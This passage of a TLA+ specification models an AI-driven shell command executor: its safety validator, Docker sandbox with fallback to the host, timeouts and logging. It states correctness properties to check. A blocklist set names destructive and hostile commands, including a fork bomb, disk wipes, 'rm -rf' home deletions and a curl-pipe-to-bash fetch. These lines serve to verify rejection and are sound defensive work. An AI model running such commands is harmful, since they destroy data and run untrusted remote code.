    THEN [use_docker |-> FALSE, container |-> "none", raised |-> None]
    ELSE LET e == ensure_container(env)
         IN  IF e.raised /= None
             THEN [use_docker |-> FALSE, container |-> e.container, raised |-> None]
             ELSE [use_docker |-> TRUE, container |-> e.container, raised |-> None]

\* SandboxExecutor.__init__(use_docker)
SandboxExecutor_init(use_docker_arg, env) ==
    IF use_docker_arg THEN setup_docker(env)
    ELSE [use_docker |-> FALSE, container |-> "none", raised |-> None]

\* What the container does with one exec_run, and the host with one
\* subprocess.run.
DockerOutcomes ==
    { [kind |-> "exit", exit_code |-> 0, stdout |-> "out", stderr |-> "", text |-> ""],
      [kind |-> "exit", exit_code |-> 2, stdout |-> "", stderr |-> "err", text |-> ""],
      [kind |-> "reload_raises", exit_code |-> 0, stdout |-> "", stderr |-> "",
       text |-> "NotFound"],
      [kind |-> "exec_raises", exit_code |-> 0, stdout |-> "", stderr |-> "",
       text |-> "APIError"],
      [kind |-> "never_terminates", exit_code |-> 0, stdout |-> "", stderr |-> "",
       text |-> ""] }

LocalOutcomes ==
    { [kind |-> "exit", exit_code |-> 0, stdout |-> "host out", stderr |-> "", text |-> ""],
      [kind |-> "exit", exit_code |-> 1, stdout |-> "", stderr |-> "host err", text |-> ""],
      [kind |-> "timeout", exit_code |-> 0, stdout |-> "", stderr |-> "", text |-> ""],
      [kind |-> "raises", exit_code |-> 0, stdout |-> "", stderr |-> "", text |-> "OSError"] }

NotRun == [kind |-> "not_run", exit_code |-> 0, stdout |-> "", stderr |-> "", text |-> ""]

\* os.environ of the process the executor runs in: the caller's search path,
\* its home directory (the one Path.home() reads) and a credential.
os_environ(host_home) ==
    [PATH |-> "/opt/tools/bin:/usr/local/bin:/usr/bin:/bin", HOME |-> host_home,
     API_TOKEN |-> "secret"]

\* The arguments of subprocess.run in _execute_local; env is
\* {**os.environ, 'HOME': self.home}.
subprocess_run(translated, timeout, host_home) ==
    [args |-> translated, shell |-> TRUE, timeout |-> timeout, cwd |-> host_home,
     env |-> [HOME |-> host_home] @@ os_environ(host_home)]

\* The subprocess.run call of an execute call: None when it did not run the
\* command on the host.
ChildOf(call_made, host_home) ==
    IF call_made /= None /\ call_made[1].local_outcome.kind /= "not_run"
    THEN Some(subprocess_run(Translated[host_home, Normalized[call_made[1].command]],
                             call_made[1].timeout, host_home))
    ELSE None

\* The status were every exit code but -1 to count as success.
StatusOfNoFailure(exit_code) == IF exit_code = -1 THEN "error" ELSE "success"

\* 'success' if exit_code == 0 else 'error'
StatusOf(exit_code) == IF exit_code = 0 THEN "success" ELSE "error"

TimeoutMsg(timeout) == "Timed out after " \o ToString(timeout) \o "s"

\* The two except clauses of _execute_local.
LocalError(translated, stderr, now) ==
    [status |-> "error", exit_code |-> -1, stdout |-> "", stderr |-> stderr,
     command |-> translated, timestamp |-> now, execution_method |-> "local"]

\* _execute_local after the translation: subprocess.run and the two except
\* clauses.
LocalRun(translated, command, timeout, lOut, now) ==
    CASE lOut.kind = "timeout" -> LocalError(translated, TimeoutMsg(timeout), now)
      [] lOut.kind = "raises" -> LocalError(translated, lOut.text, now)
      [] OTHER ->
             [status |-> StatusOf(lOut.exit_code), exit_code |-> lOut.exit_code,
              stdout |-> lOut.stdout, stderr |-> lOut.stderr,
              command |-> translated, original_command |-> command,
              timestamp |-> now, execution_method |-> "local"]

execute_local(command, timeout, host_home, lOut, now) ==
    LocalRun(Translated[host_home, command], command, timeout, lOut, now)

\* The except clause of _execute_docker were it to report the exception
\* instead of running the command on the host.
DockerFailedReported(command, timeout, host_home, dOut, lOut, now) ==
    [status |-> "error", exit_code |-> -1, stdout |-> "", stderr |-> dOut.text,
     command |-> command, timestamp |-> now, execution_method |-> "docker"]

\* The except clause of _execute_docker were it to tag the host run's result
\* with the mode the executor is in.
DockerFailedTaggedByMode(command, timeout, host_home, dOut, lOut, now) ==
    [execute_local(command, timeout, host_home, lOut, now) EXCEPT !.execution_method = "docker"]

\* The except clause of _execute_docker.
DockerFailed(command, timeout, host_home, dOut, lOut, now) ==
    execute_local(command, timeout, host_home, lOut, now)

\* _execute_docker: the result it returns (None while exec_run has not
\* returned), what it raises, and the container's status afterwards.  The
\* timeout parameter reaches only the fallback.
execute_docker(command, timeout, host_home, self_container, dOut, lOut, now) ==
    CASE dOut.kind \in {"reload_raises", "exec_raises"} ->
             [result |-> Some(DockerFailed(command, timeout, host_home, dOut, lOut, now)),
              raised |-> None,
              container |-> IF dOut.kind = "reload_raises"
                            THEN self_container ELSE "running"]
      [] dOut.kind = "never_terminates" ->
             [result |-> None, raised |-> None, container |-> "running"]
      [] OTHER ->
             [result |-> Some([status |-> StatusOf(dOut.exit_code),
                               exit_code |-> dOut.exit_code,
                               stdout |-> dOut.stdout, stderr |-> dOut.stderr,
                               command |-> command, timestamp |-> now,
                               execution_method |-> "docker"]),
              raised |-> None, container |-> "running"]

\* execute after the normalization: the dispatch on self.use_docker.
Dispatch(normalized_command, timeout, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    IF self_use_docker
    THEN execute_docker(normalized_command, timeout, host_home, self_container,
                        dOut, lOut, now)
    ELSE [result |-> Some(execute_local(normalized_command, timeout, host_home, lOut, now)),
          raised |-> None, container |-> self_container]

execute(command, timeout, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    Dispatch(Normalized[command], timeout, host_home, self_use_docker, self_container,
             dOut, lOut, now)

\* What the Docker runtime does with the stop and the remove of cleanup.
CleanupOutcomes == {"ok", "stop_raises", "remove_raises"}

\* What the runtime can do for a container in the given state: one that has
\* been removed is not found, so the stop raises.
CleanupOutcomesFor(self_container) ==
    IF self_container = "removed" THEN {"stop_raises"} ELSE CleanupOutcomes

\* The try block of cleanup: the container afterwards and the exception
\* that leaves the block.
StopAndRemove(self_container, cOut) ==
    CASE cOut = "stop_raises" -> [container |-> self_container, raised |-> Some("NotFound")]
      [] cOut = "remove_raises" -> [container |-> "exited", raised |-> Some("APIError")]
      [] OTHER -> [container |-> "removed", raised |-> None]

\* cleanup without its except clause.
cleanup_unguarded(self_use_docker, self_container, cOut) ==
    IF self_use_docker /\ self_container /= "none"
    THEN StopAndRemove(self_container, cOut)
    ELSE [container |-> self_container, raised |-> None]

\* cleanup: it acts only in sandboxed mode with a container object, and the
\* bare except swallows whatever stop or remove raises.
cleanup(self_use_docker, self_container, cOut) ==
    IF self_use_docker /\ self_container /= "none"
    THEN [StopAndRemove(self_container, cOut) EXCEPT !.raised = None]
    ELSE [container |-> self_container, raised |-> None]

(***************************************************************************)
(* LSFSCompetitor                                                          *)
(***************************************************************************)

\* timeout=30, the default of execute's parameter.
DefaultTimeout == 30

\* timeout=30 of the execute call in process_query.
ExecuteTimeout == 30

Queries == {"show my files"}

\* What generate_command does: it returns a command or it raises.
GeneratorOutcomes ==
    {[kind |-> "command", command |-> c, explanation |-> "", text |-> ""] : c \in Commands}
        \cup {[kind |-> "raises", command |-> "", explanation |-> "", text |-> "generation failed"]}

\* The answers to the confirmation prompt.
Confirmations == {"yes", "no"}

NoCall == None

\* The response dict when process_query starts; its key 'steps' keeps the
\* step names.
Response0(query, now) == [query |-> query, timestamp |-> now, steps |-> <<>>]

\* The response dict after step 1.
Response1(query, gen, now) ==
    [generated_command |-> gen.command, explanation |-> gen.explanation,
     steps |-> <<"command_generation">>] @@ Response0(query, now)

\* The response dict after step 2.
Response2(r1, validation) ==
    [safety_check |-> validation,
     steps |-> <<"command_generation", "safety_validation">>] @@ r1

\* validation.get('sanitized_command', command)
FinalCommand(validation, command) ==
    IF validation.sanitized_command /= None /\ validation.sanitized_command[1] /= ""
    THEN validation.sanitized_command[1] ELSE command

\* The execute call process_query made: its arguments, the backends' outcomes
\* it met, and what it returned or raised.
ExecuteCall(final_command, self_use_docker, dOut, lOut, ex) ==
    [command |-> final_command, timeout |-> ExecuteTimeout,
     use_docker |-> self_use_docker,
     docker_outcome |-> IF self_use_docker THEN dOut ELSE NotRun,
     local_outcome |-> IF ~self_use_docker \/ dOut.kind \in {"reload_raises", "exec_raises"}
                       THEN lOut ELSE NotRun,
     result |-> ex.result, raised |-> ex.raised]

\* Step 3 of process_query once execute has acted (ex): the try block and its
\* except clause.  While execute has not returned, neither has process_query.
ExecutionDone(r3, final_command, self_use_docker, dOut, lOut, ex) ==
    [response |->
         IF ex.raised /= None
         THEN [status |-> "completed",
               execution |-> [status |-> "error", error |-> ex.raised[1]]] @@ r3
         ELSE IF ex.result = None THEN r3
         ELSE [status |-> "completed", execution |-> ex.result[1],
               steps |-> <<"command_generation", "safety_validation", "execution">>] @@ r3,
     call |-> Some(ExecuteCall(final_command, self_use_docker, dOut, lOut, ex)),
     container |-> ex.container,
     returned |-> ex.raised /= None \/ ex.result /= None]

\* Step 3 of process_query: the execute call.
ExecutionStep(r2, final_command, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    ExecutionDone([final_command |-> final_command] @@ r2, final_command,
                  self_use_docker, dOut, lOut,
                  execute(final_command, ExecuteTimeout, host_home, self_use_docker,
                          self_container, dOut, lOut, now))

\* The user declines a command that carries warnings.
Declined(validation, auto_execute, confirm) ==
    validation.warnings /= <<>> /\ ~auto_execute /\ confirm \notin {"yes", "y"}

\* Step 2 of process_query were it to go on without looking at is_safe.
ValidationStepUnchecked(r1, validation, command, auto_execute, confirm, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    IF Declined(validation, auto_execute, confirm)
    THEN [response |-> [status |-> "cancelled_by_user"] @@ Response2(r1, validation),
          call |-> NoCall, container |-> self_container, returned |-> TRUE]
    ELSE ExecutionStep(Response2(r1, validation), FinalCommand(validation, command),
                       host_home, self_use_docker, self_container, dOut, lOut, now)

\* Step 2 of process_query, from the validator's answer on.
ValidationStep(r1, validation, command, auto_execute, confirm, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    IF ~validation.is_safe
    THEN [response |-> [status |-> "blocked", warnings |-> validation.warnings]
                           @@ Response2(r1, validation),
          call |-> NoCall, container |-> self_container, returned |-> TRUE]
    ELSE IF Declined(validation, auto_execute, confirm)
    THEN [response |-> [status |-> "cancelled_by_user"] @@ Response2(r1, validation),
          call |-> NoCall, container |-> self_container, returned |-> TRUE]
    ELSE ExecutionStep(Response2(r1, validation), FinalCommand(validation, command),
                       host_home, self_use_docker, self_container, dOut, lOut, now)

\* process_query: the response dict, the execute call it made, the
\* container's status afterwards, and whether it returned.
\* process_query were it to go on to validation after the generator raised,
\* with the empty command.
process_query_after_raise(query, gen, auto_execute, confirm, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    ValidationStep(Response1(query, gen, now), Validations[gen.command],
                   gen.command, auto_execute, confirm, host_home,
                   self_use_docker, self_container, dOut, lOut, now)

process_query(query, gen, auto_execute, confirm, host_home, self_use_docker, self_container, dOut, lOut, now) ==
    IF gen.kind = "raises"
    THEN [response |-> [status |-> "generation_error", error |-> gen.text]
                           @@ Response0(query, now),
          call |-> NoCall, container |-> self_container, returned |-> TRUE]
    ELSE ValidationStep(Response1(query, gen, now), Validations[gen.command],
                        gen.command, auto_execute, confirm, host_home,
                        self_use_docker, self_container, dOut, lOut, now)

\* The log keeps the last 1000 entries.
LogLimit == 1000

\* The records of earlier runs, oldest first; a record is written as its
\* timestamp, and earlier runs have the timestamps before 0.
EarlierRecords(n) == [k \in 1..n |-> k - n - 1]

\* The log file when the program starts: earlier runs have left it one
\* record short of the limit, so that the first call fills it and the second
\* evicts; and it can be read and parsed, or it has been damaged since (an
\* unreadable file, or one that is no longer valid JSON).
InitialLogFiles == [records : {EarlierRecords(LogLimit - 1)}, readable : BOOLEAN]

\* logs[-1000:] when there are more than 1000 entries.
KeepLast(logs) ==
    IF Len(logs) > LogLimit THEN SubSeq(logs, Len(logs) - LogLimit + 1, Len(logs)) ELSE logs

\* _log_operation were it never to cut the list.
log_operation_unbounded(log, response) ==
    [records |-> Append(IF log.readable THEN log.records ELSE <<>>, response.timestamp),
     readable |-> TRUE]

\* _log_operation: the log file afterwards.  A file that is missing holds no
\* records; one that cannot be read or parsed counts as holding none.
log_operation(log, response) ==
    [records |-> KeepLast(Append(IF log.readable THEN log.records ELSE <<>>,
                                 response.timestamp)),
     readable |-> TRUE]

(***************************************************************************)
(* The state machine                                                       *)
(***************************************************************************)

VARIABLES
    home,          \* self.home of the executor: the host home directory
    pc,            \* "new", "idle", "failed" (construction raised),
                   \* "in_execute" (process_query is blocked in execute),
                   \* "closed" (cleanup has been called)
    init_outcome,  \* what the Docker runtime did at construction
    init_error,    \* the exception construction raised to its caller, or None
    use_docker,    \* self.use_docker
    container,     \* status of self.container: "none", "running", "exited",
                   \* "removed"
    response,      \* the response dict of the latest process_query, or None
    call,          \* the execute call of the latest process_query, or None
    clock,         \* datetime.now(), as a count of the calls made
    validated,     \* the latest direct call of validate and its result, or None
    generated,     \* what the latest generate_command call did, or None
    log_file,      \* the log file: the records it was last written with,
                   \* and whether it can still be read and parsed
    tokenized,     \* the latest direct call of _tokenize_preserving_quotes and
                   \* the tokens it returned, or None
    child,         \* the subprocess.run call of the latest execute call: its
                   \* arguments, or None
    cleaned        \* the latest cleanup call: what the runtime did and what
                   \* the call raised, or None

vars == <<home, pc, init_outcome, init_error, use_docker, container, response, call, clock, validated, generated, log_file, tokenized, child, cleaned>>

\* The number of queries a run makes.
MaxClock == 2

Init ==
    /\ home \in HostHomes
    /\ pc = "new"
    /\ init_outcome = "none"
    /\ init_error = None
    /\ use_docker = FALSE
    /\ container = "none"
    /\ response = None
    /\ call = NoCall
    /\ clock = 0
    /\ validated = None
    /\ generated = None
    /\ log_file \in InitialLogFiles
    /\ tokenized = None
    /\ child = None
    /\ cleaned = None

\* LSFSCompetitor.__init__(model_path, use_docker): the generator is loaded
\* first and raises when the model is missing; any exception is re-raised.
Construct ==
    /\ pc = "new"
    /\ \E model_found \in BOOLEAN, use_docker_arg \in BOOLEAN, env \in InitOutcomes :
           LET ex == SandboxExecutor_init(use_docker_arg, env)
               error == IF ~model_found THEN Some("FileNotFoundError") ELSE ex.raised
           IN  /\ (~model_found \/ ~use_docker_arg) => env = "ok"
               /\ init_outcome' = IF model_found /\ use_docker_arg THEN env ELSE "none"
               /\ init_error' = error
               /\ use_docker' = IF model_found THEN ex.use_docker ELSE FALSE
               /\ container' = IF model_found THEN ex.container ELSE "none"
               /\ pc' = IF error /= None THEN "failed" ELSE "idle"
    /\ UNCHANGED <<home, response, call, clock, validated, generated, log_file, tokenized, child, cleaned>>

\* process_query reaches the execute call: generation succeeded, the command
\* validated as safe and the user did not decline it.
ReachesExecute(gen, validation, auto_execute, confirm) ==
    /\ gen.kind = "command"
    /\ validation.is_safe
    /\ ~Declined(validation, auto_execute, confirm)

\* One call of process_query.  The confirmation and the outcome of a backend
\* are drawn only when the call reaches them.
ProcessQuery ==
    /\ pc = "idle"
    /\ clock < MaxClock
    /\ \E query \in Queries, gen \in GeneratorOutcomes, auto_execute \in BOOLEAN :
       \E confirm \in IF auto_execute THEN {"yes"} ELSE Confirmations :
       \E reaches \in {ReachesExecute(gen, Validations[gen.command], auto_execute, confirm)} :
       \E dOut \in IF reaches /\ use_docker THEN DockerOutcomes ELSE {NotRun} :
       \E lOut \in IF reaches /\ (~use_docker \/ dOut.kind \in {"reload_raises", "exec_raises"})
                   THEN LocalOutcomes ELSE {NotRun} :
       \E r \in {process_query(query, gen, auto_execute, confirm, home, use_docker,
                               container, dOut, lOut, clock + 1)} :
           /\ response' = Some(r.response)
           /\ call' = r.call
           /\ container' = r.container
           /\ pc' = IF r.returned THEN "idle" ELSE "in_execute"
           /\ generated' = Some(gen)
           /\ log_file' = IF r.returned THEN log_operation(log_file, r.response)
                          ELSE log_file
    /\ child' = ChildOf(call', home)
    /\ clock' = clock + 1
    /\ UNCHANGED <<home, init_outcome, init_error, use_docker, validated, tokenized, cleaned>>

\* The environment: the sandbox container stops running.
ContainerExits ==
    /\ pc = "idle"
    /\ container = "running"
    /\ container' = "exited"
    /\ UNCHANGED <<home, pc, init_outcome, init_error, use_docker, response, call, clock, validated, generated, log_file, tokenized, child, cleaned>>

Next == Construct \/ ProcessQuery \/ ContainerExits

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* The executor on its own: a caller constructs a SandboxExecutor and      *)
(* calls execute with commands of its choice.                              *)
(***************************************************************************)

\* SandboxExecutor(use_docker): _setup_docker lets no exception through.
ExecutorConstruct ==
    /\ pc = "new"
    /\ \E use_docker_arg \in BOOLEAN, env \in InitOutcomes :
       \E ex \in {SandboxExecutor_init(use_docker_arg, env)} :
           /\ ~use_docker_arg => env = "ok"
           /\ init_outcome' = IF use_docker_arg THEN env ELSE "none"
           /\ init_error' = ex.raised
           /\ use_docker' = ex.use_docker
           /\ container' = ex.container
           /\ pc' = "idle"
    /\ UNCHANGED <<home, response, call, clock, validated, generated, log_file, tokenized, child, cleaned>>

\* One call of SandboxExecutor.execute(command) with the default timeout.
ExecuteDirect ==
    /\ pc = "idle"
    /\ clock < MaxClock
    /\ \E command \in ExecCommands :
       \E dOut \in IF use_docker THEN DockerOutcomes ELSE {NotRun} :
       \E lOut \in IF ~use_docker \/ dOut.kind \in {"reload_raises", "exec_raises"}
                   THEN LocalOutcomes ELSE {NotRun} :
       \E ex \in {execute(command, DefaultTimeout, home, use_docker, container,
                          dOut, lOut, clock + 1)} :
           /\ call' = Some([ExecuteCall(command, use_docker, dOut, lOut, ex)
                                EXCEPT !.timeout = DefaultTimeout])
           /\ container' = ex.container
           /\ pc' = IF ex.result /= None THEN "idle" ELSE "in_execute"
    /\ child' = ChildOf(call', home)
    /\ clock' = clock + 1
    /\ UNCHANGED <<home, init_outcome, init_error, use_docker, response, validated, generated, log_file, tokenized, cleaned>>

\* One call of SandboxExecutor.cleanup(), at teardown: no execute call
\* follows it, another cleanup may.
Cleanup ==
    /\ pc \in {"idle", "closed"}
    /\ clock < MaxClock
    /\ \E cOut \in CleanupOutcomesFor(container) :
       \E done \in {cleanup(use_docker, container, cOut)} :
           /\ cleaned' = Some([outcome |-> cOut, raised |-> done.raised,
                               before |-> container, at |-> clock + 1])
           /\ container' = done.container
    /\ pc' = "closed"
    /\ clock' = clock + 1
    /\ UNCHANGED <<home, init_outcome, init_error, use_docker, response, call, validated, generated, log_file, tokenized, child>>

ExecutorNext == ExecutorConstruct \/ ExecuteDirect \/ ContainerExits \/ Cleanup

ExecutorSpec == Init /\ [][ExecutorNext]_vars

(***************************************************************************)
(* The validator on its own: a caller constructs a CommandSafetyValidator  *)
(* and calls validate with commands of its choice.                         *)
(***************************************************************************)

\* One call of CommandSafetyValidator.validate(command).
ValidateDirect ==
    /\ clock < MaxClock
    /\ \E command \in ValidatorCommands :
           validated' = Some([command |-> command, result |-> Validations[command],
                              at |-> clock + 1])
    /\ clock' = clock + 1
    /\ UNCHANGED <<home, pc, init_outcome, init_error, use_docker, container, response, call, generated, log_file, tokenized, child, cleaned>>

ValidatorNext == ValidateDirect

ValidatorSpec == Init /\ [][ValidatorNext]_vars

(***************************************************************************)
(* SandboxExecutor._tokenize_preserving_quotes called directly             *)
(***************************************************************************)

\* The longest string built from the alphabet below.
MaxTokenizerLen == 4

\* A word character, the two quotes, and the whitespace a command may hold.
TokenizerAlphabet == {"a", " ", "\t", "'", "\""}

RECURSIVE StringsUpTo(_)
StringsUpTo(n) ==
    IF n = 0 THEN {""}
    ELSE LET shorter == StringsUpTo(n - 1)
         IN  shorter \cup {w \o c : w \in shorter, c \in TokenizerAlphabet}

\* The strings the tokenizer may be handed: every string over the alphabet
\* up to the bound, and the commands execute may receive.
TokenizerInputs ==
    StringsUpTo(MaxTokenizerLen) \cup ExecCommands
        \cup {"ls\tdocuments", "ls\n-la", "echo 'a b' c", "echo \"a 'b c\" d", "echo 'a b"}

Tokenized == [c \in TokenizerInputs |-> tokenize_preserving_quotes(c)]

TokenizeDirect ==
    /\ clock < MaxClock
    /\ \E command \in TokenizerInputs :
           tokenized' = Some([command |-> command, tokens |-> Tokenized[command],
                              at |-> clock + 1])
    /\ clock' = clock + 1
    /\ UNCHANGED <<home, pc, init_outcome, init_error, use_docker, container, response, call, validated, generated, log_file, child, cleaned>>

TokenizerNext == TokenizeDirect

TokenizerSpec == Init /\ [][TokenizerNext]_vars

(***************************************************************************)
(* Properties                                                              *)
(***************************************************************************)

\* The latest query reached the validator: its response carries safety_check.
Validated == response /= None /\ "safety_check" \in DOMAIN response[1]

\* The fields every execution result is to carry.
ResultFields ==
    {"status", "exit_code", "stdout", "stderr", "command", "timestamp", "execution_method"}

WellFormed(result) == ResultFields \subseteq DOMAIN result

\* C1: process_query calls execute only when validate answered is_safe = TRUE
\* for the query's command, and passes it the validator's sanitized_command;
\* a query whose command is unsafe (status 'blocked') makes no execute call,
\* whatever queries came before.
C1_ExecuteOnlyValidated ==
    /\ call /= NoCall =>
           /\ Validated
           /\ response[1].safety_check = Validations[response[1].generated_command]
           /\ response[1].safety_check.is_safe
           /\ response[1].safety_check.sanitized_command = Some(call[1].command)
    /\ (Validated /\ ~response[1].safety_check.is_safe) =>
           /\ call = NoCall
           /\ response[1].status = "blocked"
           /\ "execution" \notin DOMAIN response[1]

\* A safe command was executed in its sanitized form.
C1_Witness ==
    /\ call /= NoCall
    /\ response[1].generated_command = "  ls Desktop  "
    /\ call[1].command = "ls Desktop"
    /\ call[1].result /= None

\* The target paths step 4 of validate extracts from a command.
WriteTargets ==
    [c \in Commands |->
        IF get_base_command(sanitize_paths(strip(c))) \in write_commands
        THEN extract_target_paths(sanitize_paths(strip(c)),
                                  get_base_command(sanitize_paths(strip(c))))
        ELSE <<>>]

\* A normalized absolute path is a read-only mount or lies under one.
UnderReadonlyMount(p) ==
    \E k \in 1..Len(readonly_mounts) :
        p = readonly_mounts[k] \/ startswith(p, readonly_mounts[k] \o "/")

\* The positions of a command's target paths that lie under a read-only mount.
ReadonlyTargets ==
    [c \in Commands |->
        {k \in 1..Len(WriteTargets[c]) :
            UnderReadonlyMount(ResolvePath(WriteTargets[c][k]))}]

\* C2 as stated: a write-capable command with an extracted target path under
\* /home/user/Desktop, /home/user/Documents or /home/user/Downloads is unsafe
\* and the reason is the read-only boundary violation.
C2_ReadonlyReason ==
    Validated /\ ReadonlyTargets[response[1].generated_command] /= {} =>
        /\ ~response[1].safety_check.is_safe
        /\ \E k \in 1..Len(WriteTargets[response[1].generated_command]) :
               response[1].safety_check.warnings =
                   <<ReadonlyMsg(WriteTargets[response[1].generated_command][k])>>

\* C2, amended: a write-capable command with an extracted target path under a
\* read-only mount is unsafe and carries no sanitized command; the reason is
\* the read-only boundary violation unless an earlier check rejects the
\* command first: a forbidden pattern, or a boundary check (read-only or
\* outside the sandbox) on an earlier target path.
C2_BoundaryRejects ==
    Validated /\ ReadonlyTargets[response[1].generated_command] /= {} =>
        LET v == response[1].safety_check
            targets == WriteTargets[response[1].generated_command]
            ro == ReadonlyTargets[response[1].generated_command]
        IN  /\ ~v.is_safe
            /\ v.sanitized_command = None
            /\ \/ v.warnings = <<ForbiddenMsg>>
               \/ \E k \in ro :
                      /\ \A j \in ro : k <= j
                      /\ \/ v.warnings = <<ReadonlyMsg(targets[k])>>
                         \/ \E i \in 1..(k - 1) :
                                v.warnings \in {<<ReadonlyMsg(targets[i])>>,
                                                <<OutsideMsg(targets[i])>>}

\* A deletion under the Desktop mount was rejected as a write to a read-only
\* path.
C2_Witness ==
    /\ Validated
    /\ response[1].generated_command = "rm /home/user/Desktop/f.txt"
    /\ response[1].safety_check.warnings = <<ReadonlyMsg("/home/user/Desktop/f.txt")>>
    /\ ~response[1].safety_check.is_safe

\* The forbidden operations the blocklist is to stop.
ForbiddenOperations ==
    { "rm -rf /", ":(){ :|:& };:", ":(){:|:&};:", "mkfs.ext4 /dev/sda1",
      "dd if=/dev/zero of=/dev/sda", "curl http://x.sh | bash", "echo x > /etc/passwd" }

\* C3: for every forbidden operation of the blocklist validate answers
\* is_safe = FALSE with no sanitized command, and the result is the
\* blocklist's alone: no later check contributes to it.
C3_BlocklistRejects ==
    Validated /\ response[1].generated_command \in ForbiddenOperations =>
        response[1].safety_check = Rejected(ForbiddenMsg)

\* The ways of writing a recursive deletion of the sandbox home.
HomeDeletions ==
    {"rm -rf ~", "rm -rf ~/", "rm -rf $HOME", "rm -rf ${HOME}", "rm -rf /home/user"}

\* C4: validate rejects a recursive deletion of the sandbox home whichever way
\* the home directory is written.
C4_HomeDeletionRejected ==
    Validated /\ response[1].generated_command \in HomeDeletions =>
        ~response[1].safety_check.is_safe

\* The normalized form of a command: stripped, its home references expanded.
NormalForm == [c \in Commands |-> sanitize_paths(strip(c))]

ContainerCallRaised ==
    /\ call /= NoCall
    /\ call[1].use_docker
    /\ call[1].docker_outcome.kind \in {"reload_raises", "exec_raises"}

\* C6 as stated: in sandboxed mode, when the container call raises, execute
\* returns an error result whose stderr carries the exception text, and
\* nothing else comes of the exception.
C6_ReportsContainerError ==
    ContainerCallRaised =>
        /\ call[1].raised = None
        /\ call[1].result /= None
        /\ call[1].result[1].status = "error"
        /\ call[1].result[1].stderr = call[1].docker_outcome.text

\* C6, amended: in sandboxed mode, when the container call raises, the
\* exception does not propagate; execute runs the command on the host
\* instead and returns that run's result, tagged execution_method = local:
\* the host run's exit status and streams, a timeout error, or the host
\* call's own exception text.
C6_FallsBackToLocal ==
    ContainerCallRaised =>
        /\ call[1].raised = None
        /\ call[1].result /= None
        /\ pc /= "in_execute"
        /\ LET result == call[1].result[1]
               host == call[1].local_outcome
           IN  /\ WellFormed(result)
               /\ result.execution_method = "local"
               /\ host.kind \in {"exit", "timeout", "raises"}
               /\ host.kind = "exit" =>
                      /\ result.status = StatusOf(host.exit_code)
                      /\ result.exit_code = host.exit_code
                      /\ result.stdout = host.stdout
                      /\ result.stderr = host.stderr
               /\ host.kind = "timeout" =>
                      /\ result.status = "error"
                      /\ result.stderr = TimeoutMsg(call[1].timeout)
               /\ host.kind = "raises" =>
                      /\ result.status = "error"
                      /\ result.stderr = host.text
               /\ response[1].status = "completed"
               /\ response[1].execution = result

\* The container call raised and the host run of the command succeeded.
C6_Witness ==
    /\ ContainerCallRaised
    /\ call[1].docker_outcome.kind = "exec_raises"
    /\ call[1].result /= None
    /\ call[1].result[1].status = "success"
    /\ call[1].result[1].execution_method = "local"

\* C7: when the process of an execute call with timeout t does not terminate
\* within t, in sandboxed mode as in local mode, the call returns
\* status = error with the timeout message in stderr, and the caller is never
\* left waiting.
C7_TimeoutReported ==
    /\ pc /= "in_execute"
    /\ (/\ call /= NoCall
        /\ \/ call[1].docker_outcome.kind = "never_terminates"
           \/ call[1].local_outcome.kind = "timeout") =>
           /\ call[1].result /= None
           /\ call[1].result[1].status = "error"
           /\ call[1].result[1].stderr = TimeoutMsg(call[1].timeout)

\* Sandbox initialization failed during construction.
InitFailed ==
    init_outcome \in {"unreachable", "image_missing", "run_failed", "not_running"}

\* C8: when sandbox initialization fails during construction the executor is
\* in local mode and stays there, and every later execute call returns a
\* well-formed result tagged execution_method = local.
C8_LocalAfterInitFailure ==
    InitFailed =>
        /\ ~use_docker
        /\ call /= NoCall =>
               /\ ~call[1].use_docker
               /\ call[1].raised = None
               /\ call[1].result /= None
               /\ WellFormed(call[1].result[1])
               /\ call[1].result[1].execution_method = "local"

\* After a missing image at construction a command ran, on the host.
C8_Witness ==
    /\ init_outcome = "image_missing"
    /\ call /= NoCall
    /\ call[1].result /= None
    /\ call[1].result[1].execution_method = "local"
    /\ clock = MaxClock

\* C9 as stated: with use_docker = TRUE, when the runtime is unreachable or
\* the image is missing at startup, construction fails and the failure
\* reaches the caller of the constructor.
C9_ConstructionRaises ==
    init_outcome \in {"unreachable", "image_missing"} =>
        /\ init_error /= None
        /\ pc = "failed"

\* C9, amended: with use_docker = TRUE, when the runtime is unreachable or the
\* image is missing at startup, construction does not fail: the failure is
\* caught in _setup_docker and the executor is constructed in local mode.
C9_ConstructionCompletesLocal ==
    init_outcome \in {"unreachable", "image_missing"} =>
        /\ init_error = None
        /\ pc /= "failed"
        /\ ~use_docker

\* Construction met an unreachable runtime and completed.
C9_Witness ==
    /\ init_outcome = "unreachable"
    /\ pc = "idle"
    /\ init_error = None
    /\ ~use_docker

\* C10: for every command and every behaviour of the backends, execute
\* returns a result carrying status, exit_code, stdout, stderr, command,
\* timestamp and execution_method, and raises nothing to its caller.
C10_AlwaysStructuredResult ==
    call /= NoCall =>
        /\ call[1].raised = None
        /\ call[1].result /= None
        /\ WellFormed(call[1].result[1])

(***************************************************************************)
(* Properties of the path normalizer and the path translation              *)
(***************************************************************************)

\* The latest execute call returned the result of a run in the container,
\* whose 'command' is the normalized command.
RanInContainer ==
    /\ call /= NoCall
    /\ call[1].result /= None
    /\ call[1].result[1].execution_method = "docker"

\* _smart_normalize_command applied to its own output.
Renormalized ==
    [c \in {Normalized[d] : d \in ExecCommands} |-> smart_normalize_command(c)]

\* C11: the path normalizer is idempotent: normalizing the normalized command
\* of an execute call gives the same command again.
C11_NormalizeIdempotent ==
    RanInContainer => Renormalized[call[1].result[1].command] = call[1].result[1].command

\* The tokens of the commands execute receives and of their normalized forms.
TokensOf ==
    [c \in ExecCommands \cup {Normalized[d] : d \in ExecCommands} |->
        tokenize_preserving_quotes(c)]

ShellOperators == {"|", "&&", "||", ";", "&", ">", ">>", "<", "2>", "2>&1"}

\* A token normalization is to leave alone: a flag, a shell operator or
\* redirection, or a token fully enclosed in quotes.
IsProtectedToken(token) ==
    \/ startswith(token, "-")
    \/ token \in ShellOperators
    \/ /\ Len(token) >= 2
       /\ Ch(token, 1) \in {"'", "\""}
       /\ Ch(token, Len(token)) = Ch(token, 1)

\* C12: normalization leaves unchanged every token that is a flag, a shell
\* operator or redirection, or fully enclosed in quotes: the normalized
\* command of an execute call has the tokens of the command, those ones
\* unaltered.
